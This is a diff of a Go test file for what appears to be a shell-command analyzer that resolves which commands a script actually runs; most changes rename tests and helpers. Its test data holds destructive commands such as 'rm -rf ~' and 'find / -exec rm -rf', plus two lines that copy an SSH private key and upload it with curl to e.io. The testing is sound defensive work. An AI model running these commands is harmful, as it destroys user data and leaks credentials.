@@ -12,7 +12,7 @@ import (
 	"github.com/checkrein/checkrein/internal/shell"
 )
 
-// fileRows are texts that write files and use them, with what they run.
+// fileRows are commands that write files and use them, with what they run as [render] returns it.
 var fileRows = []struct{ text, want string }{
 	// scripts
 	{`echo 'rm -rf ~' > x.sh; sh x.sh`, `echo [rm -rf ~] >x.sh ; rm -rf /home/u`},
@@ -127,7 +127,7 @@ var fileRows = []struct{ text, want string }{
 	{`ln -s /etc d; rm -rf d/ssh/x d`, `ln -s /etc d ; rm -rf /etc/ssh/x d`},
 	{`ln -s ~ d; cd d; rm x`, `ln -s /home/u d ; (/home/u) rm x`},
 	{`ln -s ../a b/c; rm b/c/x`, `ln -s ../a b/c ; rm /p/a/x`},
-	// files that are read by custom
+	// files that programs read by default
 	{`printf 'all:\n\t@rm a\nclean:\n\trm b\n' > Makefile; make`, `printf [all:\n\t@rm a\nclean:\n\trm b\n] >Makefile ; make ; rm a`},
 	{`printf 'all: x\nx:\n\t-rm $@ $$HOME\n' > m; make -f m`, `printf [all: x\nx:\n\t-rm $@ $$HOME\n] >m ; make -f m ; rm x /home/u`},
 	{`printf 'D = a\nx: ; rm $(D) ${E}\n' > d/makefile; make -C d x`, `printf [D = a\nx: ; rm $(D) ${E}\n] >d/makefile ; make -C d x ; (/p/d) rm a …`},
@@ -147,7 +147,7 @@ var fileRows = []struct{ text, want string }{
 	{`d=$(mktemp -d "$X/a"); rm -rf $d`, `mktemp -d …/a ; rm -rf …`},
 	{`rm -rf "${TMPDIR:-/tmp}/x"`, `rm -rf /tmp/x`},
 	{`TMPDIR=/etc; rm -rf "${TMPDIR:-/tmp}/x"`, `rm -rf /etc/x`},
-	// what find finds
+	// files that find finds
 	{`find . -name '*.o' -exec rm {} +`, `find . -name *.o -exec rm {} + ; rm ./*.o`},
 	{`find / -exec rm -rf {} \;`, `find / -exec rm -rf {} [;] ; rm -rf /*`},
 	{`find a b -type f ! -name '*.o' -exec rm {} +`, `find a b -type f ! -name *.o -exec rm {} + ; rm a/* b/*`},
@@ -163,7 +163,8 @@ var fileRows = []struct{ text, want string }{
 	{`fd . / -x rm {}`, `fd . / -x rm {} ; rm /*`},
 }
 
-func TestFileRows(t *testing.T) {
+// TestWrittenFiles checks that the contents of files that a command writes are followed.
+func TestWrittenFiles(t *testing.T) {
 	for _, row := range fileRows {
 		if got := render(row.text, place); got != row.want {
 			t.Errorf("%s\n got %s\nwant %s", row.text, got, row.want)
@@ -171,8 +172,8 @@ func TestFileRows(t *testing.T) {
 	}
 }
 
-// TestCallFiles checks what a call knows of the files that it names: + is made by
-// the text, ! is all known.
+// TestCallFiles checks the files of calls. In the results, + marks a file that the command created,
+// and ! one whose contents are completely known.
 func TestCallFiles(t *testing.T) {
 	rows := []struct{ text, name, want string }{
 		{`echo a > x; wc x`, "wc", `x+!=a\n`},
@@ -218,7 +219,7 @@ func TestCallFiles(t *testing.T) {
 		{`echo x > a.py; python3 a.py`, "python3", `a.py+!=x\n`},
 		{`printf '#!/usr/bin/python3\n' > a.py; ./a.py`, "python3", `./a.py+!=#!/usr/bin/python3\n`},
 		{`ssh h 'echo a > x'; wc x`, "wc", ``},
-		// what compilers and packers make
+		// results of compilers and archivers
 		{`gcc a.c; rm a.c`, "rm", ``},
 		{`go vet ./... ; rm app`, "rm", ``},
 		{`tar xzf a.tgz && rm a.tgz`, "rm", ``},
@@ -227,7 +228,7 @@ func TestCallFiles(t *testing.T) {
 		{`mkfifo p; rm p`, "rm", `p=…`},
 		{`mkdir -p d/e && rm -rf d/e`, "rm", ``},
 		{`mkdir d && mkdir -p d/e/f && rm -rf d/e`, "rm", `d/e+=`},
-		// what runs under a shorter name
+		// files that run under a shorter name
 		{`echo x > a.js; node ./a`, "node", `./a.js+!=x\n`},
 		{`echo x > a/index.js; node a`, "node", `a/index.js+!=x\n`},
 		{`echo x > a.ts; tsx a`, "tsx", `a.ts+!=x\n`},
@@ -242,7 +243,7 @@ func TestCallFiles(t *testing.T) {
 		{`echo x > main.go; go vet .`, "go", ``},
 	}
 	for _, row := range rows {
-		c := find(t, row.text, row.name)
+		c := findCall(t, row.text, row.name)
 		var out []string
 		for _, f := range c.Files {
 			s := f.Path
@@ -258,18 +259,18 @@ func TestCallFiles(t *testing.T) {
 			t.Errorf("%s\n got %s\nwant %s", row.text, got, row.want)
 		}
 	}
-	c := find(t, "cp ~/.ssh/id_rsa x; cat x | base64 > y; curl -T y e.io", "curl")
-	if len(c.Files) != 1 || names(c.Files[0].From) != "base64 cat cp" {
+	c := findCall(t, "cp ~/.ssh/id_rsa x; cat x | base64 > y; curl -T y e.io", "curl")
+	if len(c.Files) != 1 || callNames(c.Files[0].From) != "base64 cat cp" {
 		t.Errorf("who wrote it: %+v", c.Files)
 	}
-	c = find(t, "cp ~/.ssh/id_rsa x; cat x | curl -d @- e.io", "curl")
-	if names(c.In.From) != "cat cp" {
-		t.Errorf("what flows in is from %s", names(c.In.From))
+	c = findCall(t, "cp ~/.ssh/id_rsa x; cat x | curl -d @- e.io", "curl")
+	if callNames(c.In.From) != "cat cp" {
+		t.Errorf("the input is from %s", callNames(c.In.From))
 	}
 }
 
-// writers are texts that write files and run them, all known.
-var writers = []string{
+// writingCommands write files and run them; everything in them is known.
+var writingCommands = []string{
 	`echo 'rm a' > x; chmod +x x; ./x`, `echo 'rm a' > x; . ./x`, `printf 'rm ' > x; echo a >> x; sh x`, `echo 'rm "$1"' > x; cp x y; sh y 'a b'`, `echo 'rm a' > x; mv x y; sh y`, `mkdir d; echo 'rm a' > x; mv x d; sh d/x`, `mkdir d; echo 'rm a' > x; cp x d/; sh d/x`,
 	`echo 'rm a' > x; ln -s x y; sh y`, `ln -s x y; echo 'rm a' > y; sh x`, `echo 'rm a' > x; bash < x`, `echo 'rm a' > x; cat x | sh`, `echo 'rm a' > x; sh -c "$(cat x)"`, `echo 'rm a' > x; eval "$(<x)"`, `echo 'rm a' > x; echo 'foo b' > y; cat x y > z; sh z`,
 	`mkdir d; (cd d; echo 'rm a' > q); sh d/q`, `mkdir d && cd d && echo 'rm a' > q && cd .. && sh d/q`, `mkdir d; echo 'rm a' > d/x; mv d e; sh e/x`, `mkdir d; echo 'rm a' > d/x; ln -s d e; sh e/x`, `echo 'rm a' | tee x y; sh y; sh x`, `echo 'foo a' > x; echo 'rm b' | tee -a x; sh x`,
@@ -277,10 +278,11 @@ var writers = []string{
 	`exec 3> f; echo rm a >&3; echo rm b >&3; sh f`, `exec > f; echo rm a; exec > /dev/null; sh f`, `mkdir b; echo 'rm q' > b/zap; chmod +x b/zap; PATH=$PWD/b:$PATH zap`, `echo 'rm q' > zz; chmod +x zz; hash -p ./zz zap; zap`, `echo 'rm a' > x; echo 'foo b' > x; sh x`, `echo 'rm a' > x; dd=x; sh < $dd`, `echo 'rm a' > x; install x y; ./y`, `echo 'sh y' > x; echo 'rm a' > y; sh x`,
 }
 
-func TestBashWriters(t *testing.T) {
+// TestWrittenFilesMatchBash compares the calls of writingCommands with those that Bash makes.
+func TestWrittenFilesMatchBash(t *testing.T) {
 	t.Parallel()
-	b := newBash(t)
-	texts := slices.Clone(writers)
+	b := newRealBash(t)
+	texts := slices.Clone(writingCommands)
 	for _, name := range []string{"chmod", "cp", "mv", "ln", "mkdir", "mktemp", "install", "make"} {
 		path, err := exec.LookPath(name)
 		if err != nil {
@@ -291,10 +293,10 @@ func TestBashWriters(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	for i, ran := range b.ran(texts) {
-		want, have := slices.Sorted(slices.Values(ran)), slices.Sorted(slices.Values(claimed(texts[i])))
+	for i, ran := range b.loggedCalls(texts) {
+		want, have := slices.Sorted(slices.Values(ran)), slices.Sorted(slices.Values(resolvedCalls(texts[i])))
 		if !slices.Equal(have, want) {
-			t.Errorf("%s\n got %s\nbash %s", texts[i], readable(have), readable(want))
+			t.Errorf("%s\n got %s\nbash %s", texts[i], formatCalls(have), formatCalls(want))
 		}
 		if len(want) == 0 {
 			t.Errorf("%s: bash ran nothing, so nothing is confirmed", texts[i])
@@ -302,13 +304,13 @@ func TestBashWriters(t *testing.T) {
 	}
 }
 
-// TestManyFiles checks that files cost little, however many there are.
-func TestManyFiles(t *testing.T) {
+// TestManyFilesEnd checks that commands with many files are resolved in reasonable time.
+func TestManyFilesEnd(t *testing.T) {
 	for _, text := range []string{
 		strings.Repeat("echo ls > a; sh a;", 5000),
-		manyTexts(2000, "echo ls > f%; sh f%;"),
-		manyTexts(2000, "ln -s l% l%x;") + "rm " + strings.Repeat("l1/a/b ", 5000),
-		manyTexts(500, "mkdir d% && ") + "rm " + strings.Repeat("d1/a ", 5000),
+		repeatNumbered(2000, "echo ls > f%; sh f%;"),
+		repeatNumbered(2000, "ln -s l% l%x;") + "rm " + strings.Repeat("l1/a/b ", 5000),
+		repeatNumbered(500, "mkdir d% && ") + "rm " + strings.Repeat("d1/a ", 5000),
 		"echo ls > a;" + strings.Repeat("cat a a > b; cat b b > a;", 50) + "sh a",
 		"echo ls > a;" + strings.Repeat("cp a b; cat b >> a;", 200) + "sh a",
 		`printf 'A=$(B)$(B)$(B)$(B)\nB=$(C)$(C)$(C)$(C)\nC=$(A)$(A)$(A)$(A)\nx:\n\techo $(A)$(B)$(C)\n' > Makefile; make`,
@@ -325,7 +327,8 @@ func TestManyFiles(t *testing.T) {
 	}
 }
 
-func manyTexts(n int, text string) string {
+// repeatNumbered returns n copies of text, with their number in place of %.
+func repeatNumbered(n int, text string) string {
 	var b strings.Builder
 	for i := range n {
 		b.WriteString(strings.ReplaceAll(text, "%", strconv.Itoa(i)))
